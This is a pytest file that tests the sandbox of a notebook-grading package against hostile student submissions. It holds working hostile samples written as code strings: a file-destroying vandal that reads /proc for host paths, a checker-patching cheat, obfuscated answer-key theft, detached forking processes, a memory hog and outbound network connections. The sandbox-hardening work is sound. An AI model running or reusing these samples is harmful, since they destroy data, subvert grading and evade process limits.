"""A hostile class graded in the sandbox: exact grades, and nothing escapes.

One batch of a short chapter, two workers, short time limits. Seven hostile submissions
sit beside ordinary classmates:

(a) ``vandal`` deletes or overwrites files in every folder it can find: its parent,
    ``$TMPDIR``, ``$HOME``, the grader's working folder (read from ``/proc``), the
    submissions, the solutions, the output folder, the installed package and its
    ``site-packages`` (it knows every host path: they are written into its code);
(b) ``checker`` appends code to the installed checker that would pass every answer;
(c) ``keythief`` imports the answer key (plainly and obfuscated) and runs ``solutions/``
    found through ``crmlab.__file__``;
(d) ``forker`` starts ``setsid`` children that keep writing files after their kernel;
(e) ``sigint`` ignores SIGINT and loops in its first answer cell;
(f) ``memory`` allocates far beyond the memory limit;
(g) ``network`` connects to a port the test listens on, and to the internet;

with ``correct``, ``partial``, ``blank`` and ``renamed`` classmates. The test hashes the
submissions, the solutions, the installed package (and ``site-packages``) and the output
folder before and after, looks for the files the hostile code tried to plant, checks that
no process the batch started survives it, and that the listening port saw no connection.

Needs bubblewrap: installed with apt-get when the tests run as root, skipped with the
reason otherwise.
"""

from __future__ import annotations

import copy
import hashlib
import json
import os
import secrets
import shutil
import socket
import sysconfig
import tempfile
import time
from pathlib import Path

import nbformat
import pandas as pd
import pytest
from sandbox_helpers import find_bwrap

import crmlab
from crmlab.exercises import student_version
from crmlab.grading import grade, layout

ROOT = Path(__file__).resolve().parents[1]
ASSIGNMENT = "07_satisfaction"
SOLUTION = ROOT / "solutions" / f"{ASSIGNMENT}.ipynb"
TIMEOUT, TOTAL, MEMORY = 8, 60, 3072
MARK = "crmlabpwn" + secrets.token_hex(4)  # in every file and process the hostile code makes
DECOY = "crmlabdecoy" + secrets.token_hex(4)  # in the name of each file the test plants
PACKAGE = Path(crmlab.__file__).resolve().parent
SITE = Path(sysconfig.get_paths()["purelib"])
CHECKER = PACKAGE / "exercises" / "ch07.py"

# the expected grade table: student -> status of each exercise
# (points 1 1 1.5 1.5 1.5 1 0.5 1)
P, F, T, E, M, X = "passed", "failed", "timeout", "error", "missing", "forbidden"
EXPECTED = {
    "correct": [P, P, P, P, P, P, P, P],
    "partial": [P, P, P, F, F, F, F, F],
    "blank": [F, F, F, F, F, F, F, F],
    "renamed": [M, P, P, P, P, P, P, P],
    "vandal": [P, P, P, P, P, P, P, P],
    "checker": [X, X, X, X, X, X, X, X],
    "keythief": [X, X, X, P, P, P, P, P],
    "forker": [P, P, P, P, P, P, P, P],
    "sigint": [T, T, T, T, T, T, T, T],
    "memory": [P, P, P, P, P, P, P, E],
    "network": [F, P, P, P, P, P, P, P],
}

VANDAL = '''
import glob, json, os, tempfile
T = json.loads({targets!r})
MARK = T["mark"]
touched = []

def wreck(folder, code=False):
    try:
        names = os.listdir(folder)
    except OSError:
        return
    for name in names:
        path = os.path.join(folder, name)
        # what a host would miss; the test restores its own files if the sandbox fails
        target = "decoy" in name or name.endswith((".ipynb", ".csv", ".md")) or code and (
            name.endswith((".py", ".pth")))
        if not target or not os.path.isfile(path) or os.path.islink(path):
            continue
        for action in ("append", "remove"):
            try:
                if action == "append":
                    with open(path, "a") as f:
                        f.write("\\n# " + MARK + "\\n")
                elif "decoy" in name or name.endswith(".ipynb"):
                    os.remove(path)
                touched.append(path)
            except OSError:
                pass
    try:
        with open(os.path.join(folder, MARK + "-vandal.txt"), "w") as f:
            f.write(MARK)
        touched.append(folder)
    except OSError:
        pass

folders = [T[k] for k in ("submissions", "masters", "out", "cwd", "home", "tmp", "parent")]
folders += [os.getcwd(), os.path.dirname(os.getcwd()), os.path.expanduser("~"),
            tempfile.gettempdir(), "/", "/tmp"]
for proc in glob.glob("/proc/[0-9]*"):  # the grader's folders and arguments, if visible
    try:
        folders.append(os.readlink(proc + "/cwd"))
        with open(proc + "/cmdline") as f:
            folders += [a for a in f.read().split("\\0") if os.path.isdir(a)]
    except OSError:
        pass
for folder in folders:
    wreck(folder)
for folder in (T["package"], T["site"]):
    wreck(folder, code=True)
'''

CHECKER_EDIT = '''
import importlib.util, json
T = json.loads({targets!r})
payload = ("\\nimport crmlab.exercises._registry as _r\\n"
           "_r.problems = lambda *a, **k: []  # " + T["mark"] + "\\n")
spec = importlib.util.find_spec("crmlab.exercises.ch07")
for path in {{T["checker"], spec.origin if spec else T["checker"]}}:
    try:
        with open(path, "a") as f:
            f.write(payload)
    except OSError:
        pass
'''

KEY_PLAIN = '''from crmlab.exercises.ch07 import expected
nps_complainers = expected("7.1")'''

KEY_HIDDEN = '''key = __import__("crmlab.exer" + "cises.ch07", fromlist=["expected"])
churn, retention = key.expected("7.2")["churn"], key.expected("7.2")["retention"]'''

KEY_SOLUTIONS = '''import json, pathlib
import crmlab
sol = pathlib.Path(crmlab.__file__).parents[1] / "solutions" / "07_satisfaction.ipynb"
for cell in json.loads(sol.read_text())["cells"]:
    if cell["cell_type"] == "code" and "gap_by_dim =" in "".join(cell["source"]):
        exec("".join(cell["source"]))'''

FORKER = '''
import json, subprocess, sys
T = json.loads({targets!r})
child = ("import os, time\\n# " + T["mark"] + "\\n"
         "for i in range(3000):\\n"
         "    for d in " + repr([T["tmp"], T["out"], T["submissions"], "/tmp"]) + ":\\n"
         "        try:\\n"
         "            open(os.path.join(d, '" + T["mark"] + "-child'), 'w').write('alive')\\n"
         "        except OSError:\\n"
         "            pass\\n"
         "    time.sleep(0.1)\\n")
for _ in range(3):
    subprocess.Popen([sys.executable, "-c", child], start_new_session=True,
                     stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
subprocess.Popen(["/bin/sh", "-c", "sleep 600 # " + T["mark"]], start_new_session=True)
'''

SIGINT = '''import signal
signal.signal(signal.SIGINT, signal.SIG_IGN)
while True:
    pass'''

MEMORY_HOG = '''huge = None
try:
    huge = bytearray(64 * 1024 ** 3)  # 64 GB at once
except MemoryError:
    pass
blob = []
while True:  # then 64 MB at a time
    blob.append(bytearray(64 * 1024 ** 2))'''

NETWORK = '''import json, socket
T = json.loads({targets!r})
nps_complainers = ...
for host, port in (("127.0.0.1", T["port"]), ("pypi.org", 443), ("1.1.1.1", 53)):
    try:
        with socket.create_connection((host, port), timeout=3) as s:
            s.sendall(T["mark"].encode())
            nps_complainers = -43.0
    except OSError:
        pass'''


def _answers(nb):
    return [c for c in nb.cells if c.metadata.get("nbgrader", {}).get("solution")
            and c.cell_type == "code"]


def _insert(nb, source):
    """A new code cell after the setup cell (not an answer cell)."""
    nb.cells.insert(2, nbformat.v4.new_code_cell(source))
    return nb


def _hash_tree(folder: Path) -> dict[str, str]:
    out = {}
    for path in sorted(folder.rglob("*")):
        if "__pycache__" in path.parts or not path.is_file():
            continue
        out[str(path.relative_to(folder))] = hashlib.sha256(path.read_bytes()).hexdigest()
    return out


def _site_files() -> dict[str, bytes]:
    return {str(p): p.read_bytes() for p in sorted(SITE.iterdir()) if p.is_file()}


def _processes() -> dict[int, tuple[int, str]]:
    """pid -> (parent pid, command line) of every process we can see."""
    found = {}
    for entry in Path("/proc").iterdir():
        if not entry.name.isdigit():
            continue
        try:
            stat = (entry / "stat").read_text()
            ppid = int(stat.rsplit(")", 1)[1].split()[1])
            cmd = (entry / "cmdline").read_bytes().replace(b"\0", b" ").decode("utf-8",
                                                                                "replace")
        except (OSError, ValueError, IndexError):
            continue
        found[int(entry.name)] = (ppid, cmd)
    return found


def _descendants(pid: int, table: dict[int, tuple[int, str]]) -> set[int]:
    out, todo = set(), [pid]
    while todo:
        parent = todo.pop()
        for child, (ppid, _) in table.items():
            if ppid == parent and child not in out:
                out.add(child)
                todo.append(child)
    return out


def _planted(*folders: Path) -> list[str]:
    """Files with the mark in their name, in every host folder the hostile code knew."""
    found = []
    for folder in (Path(tempfile.gettempdir()), Path.home(), PACKAGE, PACKAGE / "exercises",
                   SITE, Path("/"), *folders):
        try:
            found += [str(p) for p in folder.iterdir() if MARK in p.name]
        except OSError:
            pass
    return found


@pytest.fixture(scope="module")
def bwrap():
    path, why = find_bwrap()
    if path is None:
        pytest.skip(why)
    from crmlab.grading.sandbox import find

    box, why = find()
    if box is None:
        pytest.skip(why)
    return path


@pytest.fixture(scope="module")
def hostile_class(bwrap, tmp_path_factory):
    """Write the class and the decoys, grade it once, and record the world before and after."""
    base = tmp_path_factory.mktemp("hostile")
    subs, masters, out, cwd = (base / n for n in ("submissions", "masters", "out", "cwd"))
    for folder in (subs, out, cwd):
        folder.mkdir()
    shutil.copytree(ROOT / "solutions", masters)  # the grader's solutions (not named so)
    decoys = [Path(tempfile.gettempdir()) / f"{DECOY}.txt", Path.home() / f"{DECOY}.txt",
              base / f"{DECOY}.txt", out / f"{DECOY}.csv", cwd / f"{DECOY}.csv"]
    for decoy in decoys:
        decoy.write_text("a file the submissions must not touch\n")
    listener = socket.create_server(("127.0.0.1", 0))
    listener.setblocking(False)
    world = {"submissions": str(subs), "masters": str(masters), "out": str(out),
             "cwd": str(cwd), "home": str(Path.home()), "tmp": tempfile.gettempdir(),
             "parent": str(base), "package": str(PACKAGE), "checker": str(CHECKER),
             "site": str(SITE), "port": listener.getsockname()[1], "mark": MARK}

    def targets(*keys):  # what each hostile notebook knows of the host, in its code
        return json.dumps({k: world[k] for k in (*keys, "mark")})

    solution = nbformat.read(SOLUTION, as_version=4)
    blank = student_version(solution)

    def save(name, nb):
        nbformat.write(nb, subs / f"{name}.ipynb")

    save("correct", copy.deepcopy(solution))
    save("blank", blank)
    partial = copy.deepcopy(blank)
    for cell, right in list(zip(_answers(partial), _answers(solution), strict=True))[:3]:
        cell.source = right.source
    save("partial", partial)
    renamed = copy.deepcopy(solution)
    _answers(renamed)[0].source = _answers(renamed)[0].source.replace("nps_complainers",
                                                                      "nps_total")
    save("renamed", renamed)
    save("vandal", _insert(copy.deepcopy(solution), VANDAL.format(targets=targets(
        "submissions", "masters", "out", "cwd", "home", "tmp", "parent", "package", "site"))))
    save("checker", _insert(copy.deepcopy(blank),
                            CHECKER_EDIT.format(targets=targets("checker"))))
    thief = copy.deepcopy(solution)
    for cell, code in zip(_answers(thief), (KEY_PLAIN, KEY_HIDDEN, KEY_SOLUTIONS),
                          strict=False):
        cell.source = code
    save("keythief", thief)
    save("forker", _insert(copy.deepcopy(solution),
                           FORKER.format(targets=targets("tmp", "out", "submissions"))))
    sigint = copy.deepcopy(solution)
    _answers(sigint)[0].source = SIGINT
    save("sigint", sigint)
    hog = copy.deepcopy(solution)
    _answers(hog)[-1].source = MEMORY_HOG + "\n" + _answers(hog)[-1].source
    save("memory", hog)
    network = copy.deepcopy(solution)
    _answers(network)[0].source = NETWORK.format(targets=targets("port"))
    save("network", network)
    assert sorted(p.stem for p in subs.glob("*.ipynb")) == sorted(EXPECTED)

    watched = {"submissions": subs, "solutions": masters, "package": PACKAGE,
               "data": PACKAGE.parent / "datasets" if (PACKAGE.parent / "datasets").is_dir()
               else PACKAGE / "_data"}
    before = {k: _hash_tree(v) for k, v in watched.items()}
    site_before = _site_files()
    package_files = {p: p.read_bytes() for p in PACKAGE.rglob("*.py")}
    decoys_before = {d: d.read_bytes() for d in decoys}
    procs_before = _descendants(os.getpid(), _processes())
    start = time.monotonic()
    here = os.getcwd()
    os.chdir(cwd)  # the grader's working folder
    try:
        table = grade(subs, assignment=ASSIGNMENT, solutions=masters, out=out / "grades.csv",
                      gradebook_out=out / "gradebook.csv", feedback=out / "feedback",
                      timeout=TIMEOUT, total_timeout=TOTAL, memory_mb=MEMORY, workers=2,
                      progress=False)
    finally:
        os.chdir(here)
        seconds = time.monotonic() - start
        procs_after = _processes()
        time.sleep(1.0)  # a surviving child would write again by now
        after = {k: _hash_tree(v) for k, v in watched.items()}
        site_after = _site_files()
        # if the sandbox failed, put the worktree back before failing the test
        for path, data in package_files.items():
            if path.read_bytes() != data:
                path.write_bytes(data)
        for path, data in site_before.items():
            if Path(path).read_bytes() != data:
                Path(path).write_bytes(data)
        listener_hits = []
        try:
            listener_hits.append(listener.accept())
        except BlockingIOError:
            pass
        listener.close()
    yield {"table": table, "seconds": seconds, "before": before, "after": after,
           "site": (site_before, site_after), "decoys": decoys_before, "out": out,
           "procs": (procs_before, procs_after), "listener": listener_hits,
           "planted": _planted(base, cwd, subs, masters, out)}
    for path in [*decoys, *(Path(p) for p in _planted(base, cwd, subs, masters, out))]:
        if path.is_file():
            path.unlink()


def test_exact_grades(hostile_class):
    table = hostile_class["table"]
    lay = layout(SOLUTION)
    rows = []
    for student, statuses in sorted(EXPECTED.items()):
        for ex, status in zip(lay.exercises, statuses, strict=True):
            rows.append([student, ex.grade_id, ex.points if status == "passed" else 0.0,
                         status])
    want = pd.DataFrame(rows, columns=["student", "exercise", "points", "status"])
    manual = table[table["status"] == "manual"]  # the reasoning cell, left to the instructor
    assert sorted(manual["student"]) == sorted(EXPECTED) and manual["points"].isna().all()
    assert (manual["exercise"] == "reasoning_7_8").all() and (manual["max_points"] == 1).all()
    table = table[table["status"] != "manual"]
    got = table[want.columns].sort_values(["student", "exercise"], kind="stable")
    print(table[["student", "exercise", "status", "reason"]].to_string())  # shown on failure
    pd.testing.assert_frame_equal(got.reset_index(drop=True),
                                  want.sort_values(["student", "exercise"],
                                                   kind="stable").reset_index(drop=True))
    totals = table.groupby("student")["points"].sum().to_dict()
    # the checks' points: 9 of the chapter's 10, the reasoning (1 point) is graded by hand
    assert totals == {"blank": 0, "checker": 0, "correct": 9, "forker": 9, "keythief": 5.5,
                      "memory": 8, "network": 8, "partial": 3.5, "renamed": 8,
                      "sigint": 0, "vandal": 9}


def test_the_reasons_say_what_happened(hostile_class):
    reason = hostile_class["table"].set_index(["student", "exercise"])["reason"]
    assert "did not stop when interrupted" in reason[("sigint", "check_7_1")]
    assert reason[("sigint", "check_7_2")].startswith("Not reached: the answer cell of "
                                                      "Exercise 7.1 ran over the time limit")
    assert "crmlab.exercises.ch07" in reason[("keythief", "check_7_1")]
    assert "a hidden checker" in reason[("keythief", "check_7_2")]  # caught when it ran
    assert "solutions/" in reason[("keythief", "check_7_3")]
    assert "changes its checks (crmlab/exercises" in reason[("checker", "check_7_4")]
    assert "MemoryError" in reason[("memory", "check_7_8")]
    assert "Not answered yet" in reason[("network", "check_7_1")]
    assert "store your answer in the variable" in reason[("renamed", "check_7_1")]


def test_nothing_outside_the_sandbox_changed(hostile_class):
    assert hostile_class["after"] == hostile_class["before"]  # submissions, solutions, package
    site_before, site_after = hostile_class["site"]
    assert site_after == site_before
    for decoy, data in hostile_class["decoys"].items():
        assert decoy.read_bytes() == data
    assert hostile_class["planted"] == []
    out = hostile_class["out"]
    written = sorted(str(p.relative_to(out)) for p in out.rglob("*") if p.is_file())
    assert written == sorted(["grades.csv", "gradebook.csv", f"{DECOY}.csv"]
                             + [f"feedback/{s}.md" for s in EXPECTED])
    for path in out.rglob("*"):
        if path.is_file():
            assert MARK not in path.read_text(encoding="utf-8-sig"), path


def test_no_process_outlives_the_batch_and_no_connection_was_made(hostile_class):
    before, after = hostile_class["procs"]
    assert _descendants(os.getpid(), after) <= before
    assert not [cmd for ppid, cmd in _processes().values() if MARK in cmd]
    assert not [cmd for ppid, cmd in after.values() if MARK in cmd]
    assert hostile_class["listener"] == []


def test_the_batch_stays_within_its_time(hostile_class):
    # eleven notebooks on two workers, one of them stuck until its sandbox is killed
    assert hostile_class["seconds"] < 150, hostile_class["seconds"]
